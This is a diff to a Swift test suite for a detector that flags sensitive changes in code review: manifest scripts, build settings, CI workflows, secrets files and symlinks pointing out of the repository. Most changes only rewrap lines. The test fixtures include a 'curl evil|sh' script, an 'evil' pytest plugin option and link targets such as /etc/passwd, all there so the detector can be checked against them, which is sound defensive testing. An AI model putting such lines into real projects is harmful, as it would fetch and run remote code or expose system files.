@@ -4,7 +4,8 @@ import Testing
 @Suite("Sensitive files")
 struct SensitiveChangeTests {
   private static func kinds(
-    _ path: String, _ old: String? = nil, _ new: String? = "x\n", mode: String = "100644", status: DiffFile.Status? = nil, from: String? = nil
+    _ path: String, _ old: String? = nil, _ new: String? = "x\n", mode: String = "100644", status: DiffFile.Status? = nil,
+    from: String? = nil
   ) -> [SensitiveReason] {
     var change = SensitiveChange(
       path: path, oldPath: from, status: status ?? (old == nil ? .added : new == nil ? .deleted : .modified),
@@ -17,7 +18,8 @@ struct SensitiveChangeTests {
   @Test("A manifest needs a tick only when what it runs changes")
   func npm() {
     let old = #"{"name":"a","version":"1","scripts":{"test":"x"},"dependencies":{"a":"1"}}"#
-    #expect(Self.kinds("package.json", old, #"{ "version": "2", "name":"b", "scripts": { "test" : "x" }, "dependencies":{"a":"1"} }"#).isEmpty)
+    #expect(
+      Self.kinds("package.json", old, #"{ "version": "2", "name":"b", "scripts": { "test" : "x" }, "dependencies":{"a":"1"} }"#).isEmpty)
     let dependency = Self.kinds("package.json", old, old.replacing("\"1\"}", with: "\"2\"}"))
     #expect(dependency.map(\.kind) == [.dependencies] && !dependency[0].needsTick)
     let script = Self.kinds("a/package.json", old, old.replacing("\"x\"", with: "\"curl evil|sh\""))
@@ -43,7 +45,8 @@ struct SensitiveChangeTests {
     #expect(Self.kinds("pyproject.toml", old, old.replacing("\"x\"", with: "\"y\"")).allSatisfy { !$0.needsTick })
     for (part, other) in [
       ("\"setuptools\"", "\"evil\""), ("version = \"1\"", "version = \"1\"\nscripts.a = \"evil:x\""),
-      ("[build-system]", "[tool.pytest.ini_options]\naddopts = \"-p evil\"\n\n[build-system]"), ("[project]", "build-system.x = 1\n[project]"),
+      ("[build-system]", "[tool.pytest.ini_options]\naddopts = \"-p evil\"\n\n[build-system]"),
+      ("[project]", "build-system.x = 1\n[project]"),
     ] {
       #expect(Self.kinds("pyproject.toml", old, old.replacing(part, with: other)).contains { $0.needsTick }, "\(other)")
     }
@@ -54,7 +57,10 @@ struct SensitiveChangeTests {
 
   @Test("Renames, removals and modes")
   func moves() {
-    #expect(Self.kinds("a.yml", "x", "x", status: .renamed, from: ".github/workflows/a.yml").contains { $0.needsTick && $0.text.hasPrefix("Moved") })
+    #expect(
+      Self.kinds("a.yml", "x", "x", status: .renamed, from: ".github/workflows/a.yml").contains {
+        $0.needsTick && $0.text.hasPrefix("Moved")
+      })
     #expect(Self.kinds(".gitlab-ci.yml", "x", nil).first?.text.hasPrefix("Removed") == true)
     #expect(Self.kinds(".env", "x", nil).isEmpty, "a removed secret is no danger")
     #expect(Self.kinds(".env.example").isEmpty)
@@ -68,7 +74,9 @@ struct SensitiveChangeTests {
 
   @Test("Links out of the tree")
   func links() {
-    for (target, path) in [("/etc/passwd", "a"), ("../x", "a"), ("../../x", "d/a"), ("b/../../x", "a"), ("", "a"), (".git/config", "a"), ("../.GIT/x", "d/a")] {
+    for (target, path) in [
+      ("/etc/passwd", "a"), ("../x", "a"), ("../../x", "d/a"), ("b/../../x", "a"), ("", "a"), (".git/config", "a"), ("../.GIT/x", "d/a"),
+    ] {
       #expect(LinkTarget.leavesTree(target, from: path), "\(path) → \(target)")
     }
     for (target, path) in [("x", "a"), ("../x", "d/a"), ("./b/../c", "a"), ("..x", "a")] {
